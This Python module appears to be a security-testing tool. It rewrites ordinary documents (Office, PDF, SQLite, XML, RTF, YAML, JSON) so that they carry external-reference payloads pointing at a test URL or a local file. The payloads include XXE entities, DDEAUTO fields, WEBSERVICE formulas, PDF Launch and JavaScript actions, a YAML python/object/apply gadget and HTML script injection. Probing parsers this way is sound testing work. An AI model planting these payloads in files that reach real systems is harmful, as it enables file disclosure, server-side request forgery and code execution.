"""Addresses and local files put all over harmless files. In: a file. Out: it with links.

A reader that follows one of them asks the server of the test, or takes in the secret's words.
"""

from __future__ import annotations

import io
import json
import re
import sqlite3
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

_TABLES = "SELECT name FROM sqlite_master WHERE type = 'table'"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_KINDS = "image attachedTemplate aFChunk externalLink externalLinkPath hyperlink oleObject frame \
subDocument connections queryTable settings styles theme footnotes comments numbering".split()


def linked(data: bytes, ending: str, url: str, local: str) -> Iterator[bytes]:
    """Give a file with links in the ways that its format has."""
    if data.startswith(b"PK\x03\x04"):
        yield from (_archive(data, url, local, how) for how in ("relations", "content", "types"))
        yield _archive(data, url, local, "paths")
    elif data.startswith(b"SQLite format 3"):
        yield _database(data, local)
        yield _database(data, url)
    elif data.startswith(b"%PDF"):
        yield from _pdf(data, url, local)
    elif ending in (".json", ".jsonl", ".otr"):
        for where in (url, local):
            yield data.replace(b'"media": ""', f'"media": "{where}"'.encode())
            yield json.dumps(_everywhere(json.loads(data), where)).encode()
            yield data.replace(b"<p>", _markup(url, local).encode().replace(b'"', b"'") + b"<p>", 1)
    elif b"<" in data[:200]:
        yield from _xml(data, url, local)
        yield data.replace(b"<body>", b"<body>" + _markup(url, local).encode())
    elif ending == ".rtf":
        yield data.replace(b"\\f0 Arial;}}", b"\\f0 Arial;}}" + _rtf(url, local).encode())
        yield data[:-1] + _rtf(url, local).encode() + b"}"
    elif ending == ".yaml":
        for where in (url, local):
            yield data + f"  - !!python/object/apply:urllib.request.urlopen ['{where}']\n".encode()
            yield data + f"  - !include {where}\n".encode()
            yield (
                data + f"  - id: x\n    name: X\n    source: {where}\n    $ref: {where}\n".encode()
            )
    else:
        for where in (url, local):
            cells = f'"=WEBSERVICE(""{where}"")",=IMPORTXML({where}),![]({where}),[a]: {where}'
            yield data + f"\n{cells}\n".encode()
            yield f"@import url({where});\n<img src={where}>\n".encode() + data
            yield data.replace(b"Style: ", f"fontname: {where}\nStyle: ".encode())


def _markup(url: str, local: str) -> str:
    found = ""
    for where in (url, local):
        found += (
            f'<base href="{where}"><link rel="stylesheet" href="{where}"><img src="{where}">'
            f'<iframe src="{where}"></iframe><script src="{where}"></script>'
            f'<object data="{where}"></object><embed src="{where}"><style>@import "{where}"</style>'
            f'<meta http-equiv="refresh" content="0;url={where}"><video src="{where}"></video>'
            f'<a href="{where}" ping="{where}">a</a><svg><image href="{where}"/>'
            f'<use href="{where}#a"/></svg>'
        )
    return found


def _xml(data: bytes, url: str, local: str) -> Iterator[bytes]:
    """Give XML with a type, entities, sheets, inclusions and schemas from elsewhere."""
    text = data.decode("utf-8", "replace")
    head = re.match(r"\s*<\?xml[^>]*\?>", text)
    start, body = (head[0], text[head.end() :]) if head else ("", text)
    name = re.search(r"<([A-Za-z][\w:.-]*)", body)
    root = name[1] if name else "html"
    for where in (url, local):
        declared = (
            f'<!DOCTYPE {root} SYSTEM "{where}" [<!ENTITY q SYSTEM "{where}">'
            f'<!ENTITY % p SYSTEM "{where}"> %p;]>'
        )
        entity = re.sub(r"(<(?:\w+:)?(?:t|p|text|Description|title)\b[^>]*>)", r"\1&q;", body)
        yield f"{start}{declared}{entity}".encode()
        yield f'{start}<!DOCTYPE {root} PUBLIC "-//a" "{where}">{body}'.encode()
        yield f'{start}<?xml-stylesheet type="text/xsl" href="{where}"?>{body}'.encode()
        more = (
            f' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:a '
            f'{where}" xsi:noNamespaceSchemaLocation="{where}" xml:base="{where}"'
        )
        inside = (
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{where}" parse="text"/>'
        )
        yield (start + re.sub(r"(<[A-Za-z][\w:.-]*)([^>]*[^/>]>)", rf"\1{more}\2{inside}", body,
                              count=1)).encode()  # fmt: skip


def _relation(text: str, where: str) -> str:
    added = "".join(
        f'<Relationship Id="rIdQ{n}" Type="{_RELATIONS}/{kind}" Target="{where}" '
        'TargetMode="External"/>'
        for n, kind in enumerate(_KINDS)
    )
    return text.replace("</Relationships>", added + "</Relationships>")


def _content(name: str, text: str, url: str, local: str) -> str:
    if name == "word/document.xml":
        fields = "".join(
            f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{word} '
            f'"{where}" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            for word in ("INCLUDETEXT", "INCLUDEPICTURE", "DDEAUTO", "LINK", "RD", "HYPERLINK")
            for where in (url, local)
        )
        chunk = f'<w:altChunk xmlns:r="{_RELATIONS}" r:id="rIdQ2"/>'
        return text.replace("<w:body>", f"<w:body>{fields}{chunk}", 1)
    if name.startswith("xl/worksheets/sheet"):
        checks = (
            '<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>'
            f'WEBSERVICE("{url}")</formula1></dataValidation></dataValidations>'
        )
        cell = f'<c r="C2"><f>WEBSERVICE("{url}")</f></c><c r="D2"><f>[1]Sheet1!A1</f></c></row>'
        return text.replace("</row>", cell, 1).replace("</sheetData>", f"</sheetData>{checks}")
    if name == "content.xml":
        sections = "".join(
            f'<text:section text:name="q{n}"><text:section-source xlink:href="{where}" '
            f'text:section-name="a"/></text:section><text:p><draw:frame><draw:image xlink:href='
            f'"{where}"/></draw:frame></text:p>'
            for n, where in enumerate((url, local))
        )
        spaces = "".join(
            f' xmlns:{short}="{long}"'
            for short, long in (
                ("xlink", "http://www.w3.org/1999/xlink"),
                ("draw", "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"),
            )
            if f"xmlns:{short}=" not in text
        )
        text = text.replace("<office:document-content", f"<office:document-content{spaces}", 1)
        return re.sub(r"(<office:text\b[^/>]*>)", rf"\1{sections}", text, count=1)
    return text


def _archive(data: bytes, url: str, local: str, how: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            inside = old.read(info)
            if how != "relations" and info.filename.endswith((".xml", ".qde", ".rels")):
                text = inside.decode("utf-8", "replace")
                if how == "content":
                    text = _content(info.filename, text, url, local)
                elif how == "paths":  # of a project's sources and pictures
                    text = re.sub(r"(?:internal|relative)://[^\"]*", f"absolute://{local}", text)
                    text = text.replace('xlink:href="', f'xlink:href="{url}" q="')
                elif how == "types":
                    text = next(_xml(text.encode(), url, local)).decode()
                inside = text.encode()
            if how in ("relations", "content") and info.filename.endswith(".rels"):
                inside = _relation(_relation(inside.decode(), url), local).encode()
            new.writestr(info.filename, inside)
        if how == "content":
            new.writestr("xl/connections.xml", f'<connections><webPr url="{url}"/></connections>')
    return out.getvalue()


def _rtf(url: str, local: str) -> str:
    return "".join(
        f"{{\\*\\template {where}}}"
        f'{{\\field{{\\*\\fldinst {word} "{where}" \\\\d}}{{\\fldrslt x}}}}'
        f"{{\\object\\objautlink\\objupdate{{\\*\\objclass Word}}{{\\*\\objdata {where}}}}}"
        for where in (url, local)
        for word in ("INCLUDEPICTURE", "INCLUDETEXT", "HYPERLINK", "DDEAUTO")
    )


def _pdf(data: bytes, url: str, local: str) -> Iterator[bytes]:
    for where in (url, local):
        for act in (
            f"/S /URI /URI ({where})",
            f"/S /GoToR /F << /FS /URL /F ({where}) >> /D [0 /Fit]",
            f"/S /Launch /F ({where})",
            f"/S /ImportData /F ({where})",
            f"/S /SubmitForm /F << /FS /URL /F ({where}) >>",
            f'/S /JavaScript /JS (app.launchURL\\("{where}"\\))',
        ):
            yield data.replace(b"/Catalog", f"/Catalog /OpenAction << {act} >>".encode(), 1)
        stream = f"/Font /F << /FS /URL /F ({where}) >> /FFilter /FlateDecode"
        yield data.replace(b"/Length", f"/F ({where}) /Length".encode())
        yield data.replace(b"/Font", stream.encode(), 1)


def _everywhere(value: object, where: str) -> object:
    """Return JSON in which addresses stand beside every text."""
    if isinstance(value, dict):
        inside = {key: _everywhere(one, where) for key, one in value.items()}
        return inside | {"$ref": where, "url": where, "image": where, "audio": where, "href": where}
    return [_everywhere(one, where) for one in value] if isinstance(value, list) else value


def _database(data: bytes, where: str) -> bytes:
    """Return a project in which every path leads elsewhere."""
    with tempfile.TemporaryDirectory() as folder:
        place = Path(folder, "a.sqlite3")
        place.write_bytes(data)
        connection = sqlite3.connect(place)
        names = [
            row[0]
            for row in connection.execute("SELECT name FROM sqlite_master WHERE type='table'")
        ]
        for name in names:
            for column in connection.execute(f"PRAGMA table_info({name})").fetchall():
                if any(
                    word in column[1].casefold() for word in ("path", "url", "filename", "about")
                ):
                    try:
                        connection.execute(f"UPDATE {name} SET {column[1]} = ?", (where,))
                    except sqlite3.Error:
                        continue  # a guard of a study
        connection.commit()
        connection.close()
        return place.read_bytes()
